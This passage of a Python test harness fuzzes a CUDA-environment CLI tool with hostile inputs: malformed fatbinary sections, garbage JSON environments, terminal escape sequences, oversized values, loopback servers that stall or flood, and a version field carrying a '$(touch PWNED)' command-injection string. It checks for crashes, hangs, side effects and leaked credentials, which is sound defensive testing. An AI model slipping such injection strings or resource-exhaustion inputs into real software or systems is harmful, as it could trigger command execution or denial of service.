        (site / "torch" / "lib" / "libc10.so").write_bytes(torch_lib)
        (site / "torch-2.5.1.dist-info").mkdir()
        (site / "torch-2.5.1.dist-info" / "METADATA").write_text("Metadata-Version: 2.1\nName: torch\n"
                                                                "Version: 2.5.1+cu121\n\n")
        objects = {f"_{i}.so": data for i, data in enumerate(_elf_variants(ext).values())}
        objects["_C.so"] = ext
        _extension_dist(site, "ext-bad", objects, "Requires-Dist: torch==" + "9" * 5000 + "\n"
                        "Requires-Dist: torch (>=2.0\nRequires-Dist: jax; extra == \"x\" or\n"
                        "Requires-Dist: tensorflow>=2;python_version>'3'\n",
                        {"cpp_lib.json": "[" * 100_000, "version.py": "__version__ = '$(touch PWNED)'\n"})
        _extension_dist(site, "ext-json", {"_C.so": ext}, "Requires-Dist: torch===2.5.1\x1b[31m\n",
                        {"cpp_lib.json": json.dumps({"version": {"torch": "\x1b]0;title\x07" + "9" * 500}})})
        for cmd in ("doctor", "detect"):
            out.append(Case(f"installed extensions: {torch_label}: {cmd} --python", [cmd, "--python", str(venv / "bin" / "python"),
                                                                           "--json"], json=True, inert=True,
                            absent=[str(Path.cwd() / "PWNED")]))
    return out


def _fatbin_blobs() -> dict[str, bytes]:
    """Hostile .nv_fatbin sections: fatbinary headers that lie about their sizes, entries of no size, a million
    magics, an arch of 2**32 - 1."""
    import struct

    magic = struct.pack("<I", 0xBA55ED50)
    entry = struct.pack("<HHIQIIII", 2, 0, 64, 0, 0, 0, 0, 52) + bytes(32)
    return {"fatbin sizes past the end": magic + struct.pack("<HHQ", 1, 16, 1 << 62) + entry,
            "fatbin entry of no size": magic + struct.pack("<HHQ", 1, 16, 64) + struct.pack("<HHIQIIII", 2, 0, 0, 0,
                                                                                        0, 0, 0, 52) + bytes(32),
            "fatbin of 200000 magics": (magic + struct.pack("<HHQ", 1, 16, 0)) * 200_000,
            "fatbin arch 2**32-1": magic + struct.pack("<HHQ", 1, 16, 64) + struct.pack("<HHIQIIII", 1, 0, 64, 0, 0, 0,
                                                                                      0, 0xFFFFFFFF) + bytes(32),
            "fatbin truncated": magic + b"\x01"}


def _extension_arch_cases(root: Path) -> list[Case]:
    """Issue 39, EXTENSION_ARCH_UNSUPPORTED: saved environments whose objects state hostile SASS/PTX lists beside
    GPUs, and a venv whose extension objects carry hostile .nv_fatbin sections (objcopy). doctor answers."""
    out: list[Case] = []
    torch = {"frameworks": [{"name": "torch", "version": "2.5.1+cu121", "cuda": "12.1"}],
             "packages": {"torch": "2.5.1+cu121"}, "driver": {"version": "550.54.15", "status": "ok"},
             "gpus": [{"index": 0, "name": "\x1b[31mGPU", "compute_capability": "5.2"},
                      {"index": 1, "name": "x", "compute_capability": "9" * 5000}]}
    for objects in ([{"path": "/x.so", "sass": ["9" * 5000, "5.", "", "\x1b[31m"], "ptx": [1, None]}],
                    [{"path": "/x.so", "sass": "5.2"}], [{"path": "/x.so", "sass": ["6.0"] * 100_000, "ptx": []}]):
        saved = root / f"env-ext-arch-{len(out)}.json"
        saved.write_text(json.dumps({"origin": "file", **torch, "extensions": [{"name": "x", "version": "1",
                                                                                 "objects": objects}]}))
        out.append(Case(f"extension archs: saved environment {len(out)}", ["doctor", "--env", str(saved), "--json"],
                        json=True))
    gcc, objcopy = shutil.which("gcc"), shutil.which("objcopy")
    if gcc is None or objcopy is None:
        return out
    build = _folder(root, "ext-arch-build")
    (build / "rt.c").write_text("int cudaRuntimeGetVersion(int *v) { *v = 12000; return 0; }\n")
    (build / "ext.c").write_text("int cudaRuntimeGetVersion(int *v); int use(void) { int v; return "
                                 "cudaRuntimeGetVersion(&v); }\n")
    subprocess.run([gcc, "-shared", "-fPIC", "-o", "libcudart.so.12", "-Wl,-soname,libcudart.so.12", "rt.c"],
                   cwd=build, check=True, timeout=120)
    subprocess.run([gcc, "-shared", "-fPIC", "-o", "plain.so", "ext.c", "-Wl,--no-as-needed", "./libcudart.so.12"],
                   cwd=build, check=True, timeout=120)
    objects = {}
    for i, (_label, blob) in enumerate(_fatbin_blobs().items()):
        (build / f"blob{i}").write_bytes(blob)
        subprocess.run([objcopy, "--add-section", f".nv_fatbin=blob{i}", "plain.so", f"_{i}.so"], cwd=build, check=True, timeout=120)
        objects[f"_{i}.so"] = (build / f"_{i}.so").read_bytes()
    venv = root / "ext-arch-venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True, timeout=300)
    site = next((venv / "lib").glob("python*/site-packages"))
    _extension_dist(site, "ext-arch", objects, "Requires-Dist: torch>=2\n")
    out.append(Case("extension archs: hostile fatbins: doctor --python", ["doctor", "--python", str(venv / "bin" / "python"),
                                                                        "--json"], json=True, inert=True))
    return out


def _extension_floor_cases(root: Path) -> list[Case]:
    """Issue 39, the packages' GPU floors (extensions.json ``gpu_floors``): garbage floors in a --data folder
    (matrix validate and doctor answer, exit 2 where the folder is refused), and saved environments whose installed
    versions and GPUs are garbage beside the shipped floors. doctor answers."""
    out: list[Case] = []
    saved = root / "env-ext-floor.json"
    saved.write_text(json.dumps({
        "origin": "file", "driver": {"version": "550.54.15", "status": "ok"},
        "packages": {"flash-attn": "\x1b[31m2.8.3", "vllm": "9" * 5000, "bitsandbytes": "", "cupy-cuda12x": "13.6.0"},
        "gpus": [{"index": 0, "name": "\x1b[31mGPU", "compute_capability": "2.0"},
                 {"index": 1, "name": "Tesla T4", "compute_capability": "9" * 5000},
                 {"index": 2, "name": "x" * 10_000, "compute_capability": "7.5"}]}))
    out.append(Case("extension floors: saved environment", ["doctor", "--env", str(saved), "--json"], json=True))
    good = {"names": ["flash-attn"], "versions": ">=2", "min_compute_capability": "8.0",
            "source": [{"url": "https://example.org/README.md", "states": "Ampere or newer", "read": "2026-12-04",
                        "kind": "first_party"}]}
    floors: dict[str, object] = {
        "cc word": [{**good, "min_compute_capability": "banana"}], "cc huge": [{**good, "min_compute_capability": "9" * 5000}],
        "cc number": [{**good, "min_compute_capability": 8.0}], "names escape": [{**good, "names": ["\x1b[31mx"]}],
        "names many": [{**good, "names": ["flash-attn"] * 100_000}], "versions word": [{**good, "versions": "not a spec"}],
        "no source": [{k: v for k, v in good.items() if k != "source"}], "unknown key": [{**good, "bogus": 1}],
        "not a list": "x", "third party only": [{**good, "source": [{**good["source"][0], "kind": "third_party"}]}],
        "versions any": [{**good, "versions": ""}]}
    return out + _extension_data_cases(root, "extension floors", "gpu_floors", floors, saved)


def _extension_data_cases(root: Path, title: str, key: str, values: dict[str, object], saved: Path) -> list[Case]:
    """For each garbage value of extensions.json's ``key``: a --data folder holding it, read by matrix validate and
    by doctor on ``saved``."""
    out: list[Case] = []
    for label, value in values.items():
        folder = root / f"data-{key}-{label.replace(' ', '-')}"
        shutil.copytree(_data_dir(), folder)
        doc = json.loads((folder / "extensions.json").read_text())
        doc[key] = value
        (folder / "extensions.json").write_text(json.dumps(doc))
        out.append(Case(f"{title}: data {label}: matrix validate", ["matrix", "validate", str(folder), "--json"],
                        json=True))
        out.append(Case(f"{title}: data {label}: doctor", ["doctor", "--env", str(saved), "--data", str(folder)]))
    return out


def _library_choice_cases(root: Path) -> list[Case]:
    """bitsandbytes' per-CUDA library rules (extensions.json ``library_choices``): garbage rows in a --data folder
    (matrix validate and doctor answer, exit 2 where the folder is refused), and a saved environment whose
    bitsandbytes objects, torch CUDA and BNB_CUDA_VERSION are garbage beside the shipped rows. doctor answers."""
    out: list[Case] = []
    saved = root / "env-ext-libchoice.json"
    objects = [{"path": f"/sp/bitsandbytes/libbitsandbytes_cuda{d}.so", "needed": ["libcudart.so.12"]}
               for d in ("1", "9" * 5000, "12\x1b[31m", "130", "0")] + [{"path": "/sp/bitsandbytes/" + "x" * 10_000}]
    saved.write_text(json.dumps({
        "origin": "file", "packages": {"torch": "2.14.1", "bitsandbytes": "0.49.2"},
        "frameworks": [{"name": "torch", "version": "2.14.1", "cuda": "13.\x1b[31m0"}],
        "context": {"env": {"BNB_CUDA_VERSION": "9" * 5000}},
        "extensions": [{"name": "bitsandbytes", "version": v, "objects": objects} for v in ("0.49.2", "0.50.1", "x")]}))
    out.append(Case("library choices: saved environment", ["doctor", "--env", str(saved), "--json"], json=True))
    code = {"url": "https://example.org/loader.py", "states": "opens lib_cuda{major}{minor}", "read": "2026-12-04",
            "kind": "first_party"}
    good = {"names": ["bitsandbytes"], "versions": ">=0", "prefix": "libbitsandbytes_cuda", "choose": "exact",
            "missing": "it raises", "source": [code]}
    rows: dict[str, object] = {
        "choose word": [{**good, "choose": "closest"}], "prefix space": [{**good, "prefix": "lib cuda"}],
        "prefix huge": [{**good, "prefix": "x" * 100_000}], "carried word": [{**good, "carried": {"1.0": ["x"]}}],
        "carried huge": [{**good, "carried": {"1.0": ["13.0"] * 100_000}}], "versions word": [{**good, "versions": "?"}],
        "override escape": [{**good, "override": "\x1b[31m"}], "no source": [{k: v for k, v in good.items() if k != "source"}],
        "not a list": "x", "unknown key": [{**good, "bogus": 1}]}
    return out + _extension_data_cases(root, "library choices", "library_choices", rows, saved)


def _hostile_index(answer) -> str:
    """A loopback server (daemon threads, for the whole run) that reads each request, then calls ``answer(conn)``
    (tests/support/hostileserver.RawServer, entered and never left)."""
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tests"))
    from support.hostileserver import RawServer

    return RawServer(lambda conn, _request: answer(conn)).__enter__().url


def _drip(conn) -> None:
    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/vnd.pypi.simple.v1+json\r\n")
    for _ in range(600):
        conn.sendall(b"X")
        time.sleep(0.1)


def _bad_sizes(conn) -> None:
    items = ", ".join(f'{{"filename": "torch-2.5.1-py3-none-any.whl", "url": "/f/{i}.whl", "hashes": {{}}, "size": {v}}}'
                      for i, v in enumerate(['"abc"', "1e400", "[1]", "-5", "true", "{}", "9" * 5000]))
    body = f'{{"meta": {{"api-version": "1.1"}}, "name": "torch", "files": [{items}, 3, null]}}'.encode()
    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/vnd.pypi.simple.v1+json\r\nContent-Length: %d\r\n"
                 b"Connection: close\r\n\r\n%s" % (len(body), body))


def _huge(conn) -> None:
    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n")
    chunk = b"<a>" * (1 << 18)
    for _ in range(1400):  # about a GiB, until the client hangs up
        conn.sendall(b"%x\r\n%s\r\n" % (len(chunk), chunk))


def _preflight_cases(root: Path) -> list[Case]:
    """Issue 42: the check before a fix's first change against hostile indexes (one that drips a byte every tenth
    of a second, PEP 691 sizes that are no numbers, a listing of a GiB: bounded in time and memory, refused with
    exit 4, or gone on with), and CUDAMATRIX_UNDO_KEEP_GB values that are no numbers (exit 2); in each, no
    journal is begun (nothing changed)."""
    py = _bare_python(root)
    drip, bad, huge = _hostile_index(_drip), _hostile_index(_bad_sizes), _hostile_index(_huge)
    out: list[Case] = []
    fix = ["fix", "--yes", "--no-verify", "--python", py, "--driver", "550.54.15", "--gpu", "7.5", "torch"]
    for label, default, mirror in (("dripping framework index", bad, drip), ("sizes that are no numbers", bad, bad),
                                   ("a listing of a GiB", huge, huge)):
        state = _folder(root, f"state-preflight-{label.replace(' ', '-')}")
        env = {"PIP_INDEX_URL": default + "/simple", "PIP_CONFIG_FILE": os.devnull, "XDG_STATE_HOME": str(state),
               "PIP_FIND_LINKS": "", "PIP_EXTRA_INDEX_URL": ""}
        for json_flag in ([], ["--json"]):
            out.append(Case(f"preflight: {label}{' --json' if json_flag else ''}",
                            [*fix, "--mirror", mirror + "/whl", "--allow-http", *json_flag], env=env,
                            json=bool(json_flag), absent=_journals_of(state, py)))
    for value in ("nan", "inf", "-inf", "1e309", "-1", "ten", "0x10", "1e400"):
        state = _folder(root, f"state-keep-{value}")
        env = {"CUDAMATRIX_UNDO_KEEP_GB": value, "PIP_INDEX_URL": "http://127.0.0.1:9/simple",
               "PIP_CONFIG_FILE": os.devnull, "XDG_STATE_HOME": str(state)}
        out.append(Case(f"preflight: CUDAMATRIX_UNDO_KEEP_GB={value}", [*fix, "--allow-http", "--json"], env=env,
                        json=True, absent=[*_journals_of(state, py), _journals_of(state, py)[0] + ".lock"]))
    return out


def _journals_of(state: Path, python: str) -> list[str]:
    """The journal folders a fix of ``python`` would begin under the state home ``state`` (an interrupted one and a
    completed one); the interpreter's lock file beside them is no journal (it is taken before the checks)."""
    digest = hashlib.sha256(os.path.abspath(python).encode()).hexdigest()[:16]
    folder = state / "cudamatrix" / "journal" / digest
    return [str(folder), str(folder) + ".last"]


def _data_dir() -> Path:
    import cudamatrix.matrix.data as data

    return Path(data.default_data_dir())


def _limit_memory() -> None:
    """An unbounded read (of /dev/zero) must end in MemoryError, not take the shared machine down."""
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))


def _kill_group(child: subprocess.Popen) -> None:
    """Kill a hung command with its whole process group, and reap it (bounded)."""
    import signal

    try:
        os.killpg(child.pid, signal.SIGKILL)
    except OSError:
        child.kill()
    try:
        child.communicate(timeout=5)
    except subprocess.TimeoutExpired:
        pass


def run_case(case: Case, python: str, before: str | None, timeout: float, work: Path) -> Outcome:
    cwd = Path(tempfile.mkdtemp(prefix="case-", dir=work))
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PYTHON", "CUDAMATRIX"))}
    env["XDG_CACHE_HOME"] = str(cwd / "cache")
    env["COLUMNS"] = "100"
    if before:
        env["PYTHONPATH"] = before
    env.update(case.env)
    if "HOME" in case.env and case.env["HOME"] == "/nonexistent":
        env.pop("XDG_CACHE_HOME", None)
    start = time.monotonic()
    try:
        child = subprocess.Popen([python, "-m", "cudamatrix", *case.argv], cwd=cwd, env=env, stdin=subprocess.PIPE,
                                 stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True,
                                 preexec_fn=_limit_memory)
    except ValueError as exc:  # an argument with a NUL byte cannot be passed at all
        return Outcome(case, -1, 0.0, tail=f"not passable: {exc}")
    try:
        stdout, stderr = child.communicate(case.stdin if case.stdin is not None else b"", timeout=timeout)
    except subprocess.TimeoutExpired:
        _kill_group(child)
        return Outcome(case, None, time.monotonic() - start, hang=True)
    p = subprocess.CompletedProcess(child.args, child.returncode, stdout, stderr)
    out = Outcome(case, p.returncode, time.monotonic() - start)
    err = p.stderr.decode("utf-8", "replace")
    out.traceback = "Traceback (most recent call last)" in err or p.returncode not in (0, 1, 2, 3, 4, 5, 6)
    out.tail = err.strip()[-400:]
    if case.json:
        try:
            doc = json.loads(p.stdout)
            if not isinstance(doc, dict) or set(doc) != ENVELOPE_KEYS:
                out.bad_envelope = f"keys {sorted(doc) if isinstance(doc, dict) else type(doc).__name__}"
            elif doc["exit_code"] != p.returncode:
                out.bad_envelope = f"exit_code {doc['exit_code']} != {p.returncode}"
        except ValueError:
            out.bad_envelope = "stdout is not one JSON object: " + p.stdout.decode("utf-8", "replace")[:120]
    if any(cwd.rglob("PWNED")):
        out.side_effect = "a PWNED file was created"
    out.side_effect = out.side_effect or _side_effect(case)
    out.unsafe = _unsafe_output(case, p.stdout.decode("utf-8", "replace"), err)
    if case.device and not stat.S_ISCHR(os.lstat(case.device).st_mode):
        out.side_effect = f"the device node {case.device} was replaced by a regular file"
        os.unlink(case.device)
        os.mknod(case.device, 0o666 | stat.S_IFCHR, os.makedev(1, 7))
    shutil.rmtree(cwd, ignore_errors=True)
    return out


BYSTANDERS: dict[int, subprocess.Popen] = {}
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\r")


def _side_effect(case: Case) -> str | None:
    if case.alive is not None and BYSTANDERS[case.alive].poll() is not None:
        return f"the bystander process {case.alive} was killed"
    ran = [m for m in case.absent if os.path.exists(m)]
    if ran:
        return f"a planted program ran ({ran[0]})"
    for path, text in case.untouched.items():
        if not os.path.isfile(path):
            return f"{path} was removed"
        if Path(path).read_text() != text:
            return f"{path} was written through a planted link"
    return None


def _unsafe_output(case: Case, stdout: str, stderr: str) -> str | None:
    if case.inert and not case.json:
        raw = [c for c in RAW if c in stdout or c in stderr]
        if raw:
            return f"a raw control character {raw[0]!r} reached the terminal"
    if case.inert and "TOKEN" in stdout + stderr:
        return "a credential was printed"
    written = "".join(Path(f).read_text(errors="replace") for f in case.files if os.path.isfile(f))
    hit = [f for f in case.forbid if f in stdout or f in written]
    return f"{hit[0]!r} was printed or written" if hit else None


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--before", help="run the package at this path (first on PYTHONPATH)")
    ap.add_argument("--timeout", type=float, default=30.0)
    ap.add_argument("--jobs", type=int, default=2)
    ap.add_argument("--only", action="append", help="run the cases whose name contains this (repeatable)")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    work = Path(tempfile.mkdtemp(prefix="hostile-"))
    try:
        files = build_files(work)
        table = cases(files, work) + surface_cases(work)
        if args.only:
            table = [c for c in table if any(o in c.name for o in args.only)]
        full_mode = stat.S_IFMT(os.stat("/dev/full").st_mode) if os.path.exists("/dev/full") else None
        start = time.monotonic()
        results = []
        with cf.ThreadPoolExecutor(max_workers=args.jobs) as pool:
            for i, r in enumerate(pool.map(lambda c: run_case(c, sys.executable, args.before, args.timeout, work),
                                           table), 1):
                results.append(r)
                if i % 100 == 0:
                    print(f"... {i}/{len(table)}", file=sys.stderr, flush=True)
        if full_mode is not None and stat.S_IFMT(os.stat("/dev/full").st_mode) != full_mode:
            print("SIDE EFFECT: /dev/full is no longer a device")
        tracebacks = [r for r in results if r.traceback]
        hangs = [r for r in results if r.hang]
        envelopes = [r for r in results if r.bad_envelope]
        effects = [r for r in results if r.side_effect]
        unsafe = [r for r in results if r.unsafe]
        for label, rows in (("TRACEBACK", tracebacks), ("HANG", hangs), ("ENVELOPE", envelopes), ("SIDE EFFECT", effects),
                            ("UNSAFE OUTPUT", unsafe)):
            for r in rows:
                why = {"ENVELOPE": r.bad_envelope, "SIDE EFFECT": r.side_effect, "UNSAFE OUTPUT": r.unsafe}.get(label)
                print(f"{label}: {r.case.name} (exit {r.code}, {r.seconds:.1f}s) {why or ''}")
                if args.verbose and r.tail:
                    print("    " + r.tail.replace("\n", "\n    ")[-400:])
        print(json.dumps({"inputs": len(results), "tracebacks": len(tracebacks), "hangs": len(hangs),
                          "bad_envelopes": len(envelopes), "side_effects": len(effects), "unsafe_output": len(unsafe),
                          "seconds": round(time.monotonic() - start, 1)}))
        return 1 if (tracebacks or hangs or effects or envelopes or unsafe) else 0
    finally:
        for bystander in BYSTANDERS.values():
            bystander.kill()
            bystander.wait()
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
